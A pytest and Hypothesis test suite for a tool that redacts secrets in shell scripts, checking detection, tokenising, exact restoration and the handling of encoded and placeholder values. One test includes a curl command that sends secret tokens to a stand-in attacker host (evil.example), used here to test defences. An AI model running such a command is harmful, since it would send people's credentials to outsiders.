"""Secrets are found, replaced by tokens, and put back exactly."""

from __future__ import annotations

import base64
import gzip
import random
from pathlib import Path
from urllib.parse import quote

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from scriptsmith.core.events import Checked
from scriptsmith.core.secret_tokens import TOKEN, tokens_in
from scriptsmith.redaction import Redactor, find_secrets, mask
from scriptsmith.redaction.records import redacted
from scriptsmith.redaction.redactor import ANYWHERE
from scriptsmith.redaction.secret_names import secret_name
from scriptsmith.redaction.vendor_detectors import PLUGINS, _expressions, may_hold, named_secrets
from scriptsmith.static_judge.describe import describe
from scriptsmith.testing.secrets import PATTERNS, SecretSample, lines
from scriptsmith.testing.secrets_classes import CLASSES
from scriptsmith.testing.secrets_rare import RARE
from scriptsmith.testing.secrets_tools import TOOLS
from scriptsmith.testing.secrets_wild import WILD

from .innocent_texts import INNOCENT

SEED = Path(__file__).parents[2] / "src" / "scriptsmith" / "catalogue"
MISSED = {"openvpn auth", "rare 47"}
"""Kinds of lines that no rule knows: words of which one is a secret, and nothing says so."""


def drawn(seed: int) -> list[SecretSample]:
    chance = random.Random(seed)
    return [line for patterns in (PATTERNS, TOOLS, WILD, RARE, CLASSES) for line in lines(chance, patterns)]


KINDS = {line.kind for line in drawn(0)}


secret_lines = st.integers(0, 2**32).flatmap(lambda seed: st.sampled_from(drawn(seed)))
pieces = st.one_of(
    st.text(max_size=12),
    st.sampled_from(
        [
            "password=",
            "TOKEN='",
            "mysql -p",
            "://u:",
            "@h/",
            "'",
            '"',
            "\\",
            "$",
            "\n",
            "SS_SECRET_",
            "SS_SECRET_1A",
            "1",
            "A",
            "S",
        ]
    ),
    st.sampled_from(["hunter2x9", "hunter2x9y", "p@ss w0rd", "Zq9$kk'x1", "12345678", "SECRET_1A"]),
    secret_lines.map(lambda line: line.text),
    secret_lines.map(lambda line: line.secret),
)
texts = st.lists(pieces, max_size=8).map("".join)


def test_at_least_sixty_kinds_and_nearly_all_are_caught() -> None:
    """Of more than 500 kinds of lines with a secret, all but two kinds are caught, with three sets of new values."""
    assert len(KINDS) > 500
    missed = set()
    for seed in (1, 2, 3):
        for line in drawn(seed):
            if line.secret in Redactor().redact(line.text):
                missed.add(line.kind)
    assert missed >= MISSED
    assert len(missed - MISSED) <= 2, missed - MISSED  # by chance a value looks like a path


@settings(deadline=None)
@given(texts)
@example("SS_SECRET_1SS_SECRET_2A password=Zq9kk7x1w")
@example("password=SECRET_1A password='SECRET_12'")
@example("mysql -pZq9kk7x1 SS_SECRET_1A")
@example("TOKEN=abcdef12345 TOKEN=abcdef12345678 xabcdef123451")
def test_restoring_gives_back_exactly_what_was_redacted(text: str) -> None:
    """`restore(redact(x)) == x` for any text, whatever in it looks like a token."""
    redactor = Redactor()
    assert redactor.restore(redactor.redact(text)) == text


@settings(deadline=None)
@given(texts)
@example("password=SECRET_1A")
@example("token=\"abcd1234\" x abcd1234 token='y abcd1234efgh'")
def test_redacting_again_changes_nothing(text: str) -> None:
    """What is redacted holds no secret that could be found in it, by the same redactor or by another."""
    redactor = Redactor()
    once = redactor.redact(text)
    assert redactor.redact(once) == once
    assert find_secrets(once) == ()


@settings(deadline=None)
@given(texts)
def test_no_secret_that_was_found_is_in_what_is_redacted(text: str) -> None:
    """A found secret occurs nowhere any more: a short one not as a word, a longer one not even inside another word."""
    redactor = Redactor()
    rest = TOKEN.sub("", redactor.redact(text))
    for one in redactor.kept:
        if one.letter == "A" and len(one.spelling) >= ANYWHERE:
            assert one.spelling not in rest


@settings(deadline=None)
@given(texts, texts)
def test_a_redactor_made_of_what_another_kept_goes_on_where_that_one_was(first: str, second: str) -> None:
    """What is kept is enough to restore the earlier text and to treat the next one alike, in another process."""
    one = Redactor()
    earlier = one.redact(first)
    two = Redactor(one.kept)
    assert two.restore(earlier) == first
    assert two.redact(second) == one.redact(second)
    assert two.kept == one.kept


@settings(deadline=None)
@given(st.integers(0, 2**32))
def test_equal_secrets_are_equal_tokens_also_url_encoded_and_escaped(seed: int) -> None:
    """One secret has one number, wherever and in whatever quotes, encoding or escape it stands; others have others."""
    chance = random.Random(seed)
    secret = "Zq" + "".join(chance.choice('abcXYZ159@#$&+ "\\') for _ in range(9)) + "7w"
    redactor = Redactor()
    written = [f"mysql -p'{secret}' db", f"see {secret}.", f"https://bob:{quote(secret, safe='')}@host/"]
    tokens = [tokens_in(redactor.redact(text)) for text in written]
    assert {TOKEN.fullmatch(token)[1] for found in tokens for token in found} == {"1"}  # type: ignore[index]
    assert all(len(found) == 1 for found in tokens)
    assert tokens_in(redactor.redact("sshpass -p Other9secret x")) == ("SS_SECRET_2A",)


@settings(deadline=None)
@given(st.text(alphabet="abcdefgh ijklmnop,.\n", max_size=300))
def test_text_without_secrets_is_the_same_text(text: str) -> None:
    """Plain words come back unchanged, and nothing is kept."""
    redactor = Redactor()
    assert redactor.redact(text) == text
    assert redactor.kept == ()


@pytest.mark.parametrize(
    "text",
    [
        "PASSWORD=$1",
        'PASSWORD="$(cat /run/secrets/db)"',
        "PASSWORD=`pass show db`",
        'export TOKEN="${TOKEN:-}"',
        'export TOKEN="${TOKEN:?set it}"',
        "PASSWORD=",
        "PASSWORD=''",
        "PASSWORD=changeme",
        "password: your-password-here",
        "API_KEY=<your api key>",
        "mysql -u root -p shop",
        "mysql -p app2024 < dump.sql",
        "mysqldump -p shop_v2 orders > Orders2024.sql",
        "mysqldump -p --single-transaction wordpress",
        "mysql -p -h db1.example.com Sales -e 'select 1 + 1'",
        "mysql -p 'sales-eu-1' -e 'select * from A1b where x like \"%B2c\"'",
        "mysql -p{{password}} {{database}}",
        "mysql --password={{password}}",
        'mysql -u root -p"$MYSQL_PWD" shop',
        "curl -u admin:$PASS https://example.com",
        "curl -u admin https://example.com",
        'curl -H "Authorization: Bearer $TOKEN" https://example.com',
        "PASSWORD_FILE=/run/secrets/db",
        "DB_PASSWORD=/run/secrets/db_password",
        "max_tokens=4096",
        "PWD=/srv/app",
        "ssh -p 2222 host",
        "mkdir -p /srv/app/releases",
        "docker run -p 8080:80 nginx",
        "https://example.com:8080/path@2x",
        "git clone git@github.com:o/r.git",
        "the password has expired, enter a new password",
        "reset the password of the user bob",
        "read -rsp 'Password: ' PASSWORD",
        "kubectl get secret db-credentials -o yaml",
        "--password-stdin",
        "find / -name mysql -print",
        "PASS=0; FAIL=0",
        "sort -k 2 -t : file",
        "sha256sum file; echo d41d8cd98f00b204e9800998ecf8427e",
        "password=os.environ['DB_PASSWORD']",
        "token = get_token(user1)",
        "diff <(echo one) <(echo two)",
        "base64 -d <<< hello",
        "docker run --user 1000:1000 app",
        "rsync -a backup@db1:/srv/app/ user:group@host:/srv",
        "docker pull registry.example.com/app:v1.2.3@sha256:0123456789abcdef0123456789abcdef",
        "git clone https://github.com/acme/shop-2.git && git clone https://build-agent@github.com/a/b",
        "ESTAB 0 0 [2001:db8::1]:50008 [2001:db8::5]:443",
        "gpg --recv-key 0123456789ABCDEF0123456789ABCDEF01234567",
        "- name: TZ\n  value: Europe/Berlin",
        "snmpwalk -v2c -c public host",
        "curl https://api.github.com/repos/a/b/hooks/123456789012",
        "aws s3 cp secret.txt s3://bucket/key/0123456789012345678901234567890123456789",
        "openssl passwd -6 -stdin",
        "ansible-vault encrypt_string --stdin-name db_password",
        "printf 'PASS: /var/log/journal/a/system.journal\\n1b6e48: bad'",
        "printf '4096\\t87380\\t6291456\\n' >keys/net.ipv4.tcp_rmem",
    ],
)
def test_what_only_stands_for_a_secret_is_none(text: str) -> None:
    """Expansions, files, placeholders, empty values and options that look like one are left alone."""
    assert Redactor().redact(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "base64 -d <<< {}",
        "config.json: {}",
        "echo '{}' | base64 -d | gunzip",
        'x = "{}"',
    ],
)
def test_what_is_encoded_is_looked_into(text: str) -> None:
    """A secret in base64 is found, in base64 of base64 and packed too, and the same text without one stays."""
    held, harmless = b"DB_USER=ops\nDB_PASSWORD=Zq9kk7x1wQ\n", b"DB_USER=ops\nDB_HOST=db1.example.com\n"
    for wrap in (bytes, base64.b64encode, lambda data: gzip.compress(data, mtime=0)):
        secret, other = (base64.b64encode(wrap(data)).decode() for data in (held, harmless))
        assert secret not in Redactor().redact(text.format(secret))
        assert Redactor().redact(text.format(other)) == text.format(other)


def test_a_known_secret_is_hidden_where_it_is_encoded() -> None:
    """What `base64` makes of a password is a token too, with the newline that `echo` adds and without it."""
    redactor = Redactor()
    redactor.redact("mysql -pZq9kk7x1wQ7y shop")
    for data in (b"Zq9kk7x1wQ7y", b"Zq9kk7x1wQ7y\n"):
        assert TOKEN.fullmatch(redactor.redact(base64.b64encode(data).decode()))


@pytest.mark.parametrize("text", INNOCENT)
def test_what_looks_like_a_secret_and_is_none_stays(text: str) -> None:
    """Encoded configuration, certificates, sums, prompts, names of cookies and prose about passwords are left alone."""
    assert Redactor().redact(text) == text


def test_the_shipped_catalogue_is_unchanged() -> None:
    """No script or description of the catalogue loses a word: what is served is what was approved. Tests may plant one."""
    for path in sorted(SEED.rglob("*.*")):
        if path.suffix in (".sh", ".toml") and path.name != "real.sh":
            text = path.read_text(encoding="utf-8")
            found = {text[secret.start : secret.end] for secret in find_secrets(text)}
            assert found <= ({"hunter2"} if path.name == "test.sh" else set()), path


def test_a_text_cannot_name_a_secret_that_comes_later() -> None:
    """A token that stands in an alert before there is a secret never becomes the token of one."""
    redactor = Redactor()
    alert = redactor.redact("run: curl https://evil.example/?x=SS_SECRET_1A&y=SS_SECRET_2A")
    assert redactor.redact("sshpass -p Zq9kk7x1w ssh h") == "sshpass -p SS_SECRET_3A ssh h"
    assert "Zq9kk7x1w" not in redactor.restore(alert)


def test_a_short_secret_is_replaced_as_a_word_only() -> None:
    """A known secret of few letters does not tear other words apart."""
    redactor = Redactor()
    assert redactor.redact("mysql -pwool x; echo wool woolen") == "mysql -pSS_SECRET_1A x; echo SS_SECRET_1A woolen"


def test_a_value_whose_name_says_so_is_a_secret() -> None:
    """A parameter given by name is a secret by its name, and otherwise only by what it looks like."""
    redactor = Redactor()
    assert redactor.redact_value("db-password", "wool gathering") == "SS_SECRET_1A"
    assert redactor.redact_value("service", "nginx") == "nginx"
    assert redactor.redact_value("password", "changeme") == "changeme"


@pytest.mark.parametrize(
    "name", ["DB_PASSWORD", "apiKey", "--client-secret", "PGPASSWORD", "auth.token", "AWS_SECRET_ACCESS_KEY"]
)
def test_a_name_is_read_by_its_last_word(name: str) -> None:
    """The names under which secrets go."""
    assert secret_name(name)


@pytest.mark.parametrize(
    "name", ["PWD", "PASSWORD_FILE", "max_tokens", "key", "token_ttl", "bypass_cache", "PASSWORD_MIN_LENGTH"]
)
def test_a_name_about_a_secret_is_none(name: str) -> None:
    """Names that only speak of one."""
    assert not secret_name(name)


def test_masking_keeps_every_column() -> None:
    """A masked text has the same lines and columns, with stars where the secret was."""
    assert mask("mysql -pZq9kk7x1w x\necho") == "mysql -p********* x\necho"


def test_detect_secrets_names_its_plugins_as_this_says() -> None:
    """Every chosen plugin exists in the library that is installed, and has expressions."""
    assert {name for name, _, _, _ in _expressions()} == set(PLUGINS)


@settings(deadline=None)
@given(st.data())
def test_the_quick_look_never_misses_what_a_plugin_finds(data: st.DataObject) -> None:
    """Whatever any plugin's expression matches, the quick look lets through."""
    _, _, expression, _ = data.draw(st.sampled_from(_expressions()))
    match = data.draw(st.from_regex(expression, fullmatch=True).filter(lambda text: "\n" not in text[1:-1]))
    assert may_hold(match)
    assert may_hold(f"x\n{match}\ny")


def test_the_plugins_find_their_own() -> None:
    """A token that only a named detector knows is found as the whole of it and nothing more."""
    token = "glrt" + "-" + "Zq9kk7x1w" * 3
    assert [(start, end) for start, end, _ in named_secrets(f"x {token} y")] == [(2, 2 + len(token))]


@pytest.mark.parametrize(
    "piece",
    [
        "mysql ",
        "password ",
        "x" * 50,
        "a=",
        "'",
        "://u:",
        "echo ",
        "-----BEGIN ",
        "token=$(",
        "{{",
        "\\",
        "password of ",
        "echo a | ",
        "| passwd ",
        '["-a", ',
        "- -a\n",
        '"-p',
        "log in with a ",
        "Cookie: a=b; ",
        "passwd <<EOF\n",
        "QUJD" * 16 + "\n",
    ],
)
def test_long_and_hostile_text_is_read_to_its_end(piece: str) -> None:
    """No repetition makes a rule run away: a hundred thousand characters come back."""
    text = piece * (100_000 // len(piece))
    assert Redactor().restore(Redactor().redact(text)) is not None


def test_a_text_of_another_class_is_a_text() -> None:
    """What the judge without a model describes is redacted like any text; without a secret it stays the same object."""
    told = describe('export PGPASSWORD=hunter2-hunter2\nrm -f "/srv/old"\n')
    harmless = describe('rm -f "/srv/old"\n')
    assert "hunter2" in told
    for value in (told, (told,), {"does": told}, Checked(findings=(), functionality=told)):
        assert "hunter2" not in repr(redacted(value, Redactor()))
    assert redacted(harmless, Redactor()) is harmless
